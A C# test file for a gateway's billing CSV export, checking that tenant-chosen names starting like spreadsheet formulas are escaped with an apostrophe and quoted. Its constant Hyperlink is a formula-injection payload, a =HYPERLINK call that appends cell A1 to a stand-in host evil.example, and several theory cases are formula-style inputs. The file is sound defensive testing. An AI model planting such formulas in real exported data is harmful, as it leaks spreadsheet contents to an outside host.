using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using Gateway.FakeUpstream;
using Gateway.Front.Admin;
using Gateway.Tests.Infrastructure;

namespace Gateway.Tests.Security;

/// <summary>
/// The billing CSV carries names tenants and clients chose; a cell a spreadsheet would run as a formula
/// (<c>= + - @</c>, tab, CR first) is exported as text: a leading <c>'</c>, quoted (OWASP's CSV-injection advice).
/// </summary>
public sealed class BillingExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")";

    [Fact]
    public async Task A_team_named_like_a_formula_is_exported_as_text()
    {
        await using var upstream = await FakeUpstreamServer.StartAsync();
        await using var database = await TestPostgres.CreateAsync();
        await using var front = await AuthSecurityHost.StartAsync(upstream.BaseAddress, database.ConnectionString);
        using var admin = front.CreateAdminClient();

        using var team = await admin.PostAsJsonAsync("admin/teams", new { name = Hyperlink, billing_tag = "cc-sec" });
        var teamBody = await team.Content.ReadAsStringAsync();
        Assert.True(team.IsSuccessStatusCode, teamBody);
        var teamId = Json.Parse(teamBody).GetProperty("id").GetString()!;
        using var created = await admin.PostAsJsonAsync("admin/keys", new { team_id = teamId, name = "formula team key" });
        var keyBody = Json.Parse(await created.Content.ReadAsStringAsync());
        var keyId = keyBody.GetProperty("id").GetString()!;
        using var client = front.CreateClient(keyBody.GetProperty("secret").GetString()!);
        using (var response = await client.PostAsync("v1/messages", Json.Body(Json.SmallRequest)))
        {
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        }
        var clock = Stopwatch.StartNew();
        while (await UsageRowsAsync(database, keyId) == 0)
        {
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), "the request was never settled");
            await Task.Delay(50);
        }

        var month = DateTime.UtcNow.ToString("yyyy-MM", CultureInfo.InvariantCulture);
        var csv = await admin.GetStringAsync($"admin/billing/export?month={month}&billing_tag=cc-sec");

        var line = Assert.Single(csv.Split('\n'), l => l.Contains(teamId, StringComparison.Ordinal));
        Assert.Contains($",{teamId},\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"invoice\"\")\",claude-sonnet-4-5,1,", line);
        Assert.DoesNotContain(",=", csv);
    }

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\tcmd", "\"'\tcmd\"")]
    [InlineData("\rcmd", "\"'\rcmd\"")]
    [InlineData("=\"quoted\"", "\"'=\"\"quoted\"\"\"")]
    [InlineData("plain", "plain")]
    [InlineData("a=b", "a=b")]
    [InlineData("with, comma", "\"with, comma\"")]
    [InlineData("", "\"\"")]
    public void A_cell_is_neutralised_only_when_it_starts_like_a_formula(string value, string expected)
    {
        Assert.Equal(expected, CsvField.Append(new StringBuilder(), value).ToString());
    }

    private static async Task<long> UsageRowsAsync(TestPostgres database, string keyId)
    {
        await using var command = database.DataSource.CreateCommand("SELECT count(*) FROM usage_minute WHERE key_id = $1");
        command.Parameters.AddWithValue(keyId);
        return (long)(await command.ExecuteScalarAsync())!;
    }
}
